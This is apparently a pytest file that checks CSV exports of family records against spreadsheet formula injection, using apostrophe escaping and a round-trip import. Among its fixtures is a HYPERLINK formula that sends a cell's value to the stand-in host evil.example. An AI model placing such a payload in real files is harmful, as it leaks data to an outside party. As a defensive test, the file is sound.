"""Spreadsheets run a cell that begins with =, +, -, @ as a formula (OWASP "CSV injection"): the
CSV exports write such values with a leading apostrophe, shown as text and never run, and an
export still imports back unchanged."""

from __future__ import annotations

import csv
import io

import httpx

from service.kpm.import_files import csv_rows
from service.spreadsheets import read_cell, safe_cell
from tests.factories import ClientFactory, family_body

VILLAGE = "33.26.05.2002"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "+62 812 0000",
    "-1+1",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''two",
    "'plain apostrophe",
    "Siti Aminah",
]


def test_every_value_survives_the_round_trip_and_none_starts_a_formula() -> None:
    for value in FORMULAS:
        cell = safe_cell(value)
        assert read_cell(cell) == value
        assert not cell.startswith(("=", "+", "-", "@"))


async def test_an_export_runs_no_formula_and_imports_back_unchanged(
    http: httpx.AsyncClient, clients: ClientFactory
) -> None:
    client = await clients(region=VILLAGE, scopes=["kpm:read", "kpm:write", "pii:read"])
    body = family_body(VILLAGE, address=FORMULAS[1])
    body["members"][0]["name"] = FORMULAS[0]
    body["members"][1]["name"] = FORMULAS[3]
    assert (await http.post("/api/v1/kpm", json=body, headers=client.headers)).status_code == 201

    export = await http.get("/api/v1/kpm/export", params={"format": "csv"}, headers=client.headers)
    assert export.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{FORMULAS[0]}" in cells

    rows = [row.values for row in csv_rows(io.BytesIO(export.content))]
    names = {row["name"] for row in rows}
    assert {FORMULAS[0], FORMULAS[3]} <= names
    assert {row["address"] for row in rows} == {FORMULAS[1]}
